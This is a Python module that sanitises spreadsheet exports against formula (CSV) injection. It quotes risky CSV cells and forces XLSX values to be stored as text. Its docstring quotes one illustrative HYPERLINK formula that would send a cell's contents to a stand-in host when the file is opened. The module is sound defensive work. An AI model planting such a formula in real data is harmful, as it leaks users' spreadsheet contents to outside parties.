"""Spreadsheet cells that stay what they are: text from data never becomes a formula.

A unit's name such as `=HYPERLINK("http://x.example/?"&C2,"x")` is text. Written
to a spreadsheet as is, Excel and LibreOffice run it as a formula when the file is
opened (the OWASP "CSV injection" / formula injection class). So:

- XLSX: every text value is stored as a text cell (openpyxl's `data_type` "s",
  an inline string), never as a formula (`data_type` "f", which openpyxl
  chooses for any string starting with `=`). Numbers stay numbers.
- CSV: a text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
  return gets a leading single quote, as OWASP recommends; spreadsheet
  programs then show it as text. Numbers (Decimal, int) are written as numbers,
  negative ones included; quoting of separators and quotes is the `csv`
  module's.

*Text from data is written as text; a formula from data never runs.*
"""
from __future__ import annotations

from typing import Any, Iterable

# OWASP, "CSV Injection": cells beginning with these are read as formulas (or DDE)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """A value for a CSV cell: text that a spreadsheet would read as a formula
    gets a leading `'`; anything else (numbers included) is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list:
    """`csv_cell` over a row."""
    return [csv_cell(v) for v in values]


def text_cells(worksheet) -> None:
    """Turn every formula openpyxl inferred on `worksheet` back into text (for
    workbooks built in normal mode; we never write formulas on purpose)."""
    for row in worksheet.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"


def write_only_row(worksheet, values: Iterable[Any]) -> list:
    """A row for a write-only worksheet: strings become text cells
    (`WriteOnlyCell` with `data_type` "s"), other values stay as they are."""
    from openpyxl.cell import WriteOnlyCell  # optional (the xlsx extra): imported only for xlsx

    out: list = []
    for v in values:
        if isinstance(v, str):
            cell = WriteOnlyCell(worksheet, value=v)
            cell.data_type = "s"
            out.append(cell)
        else:
            out.append(v)
    return out
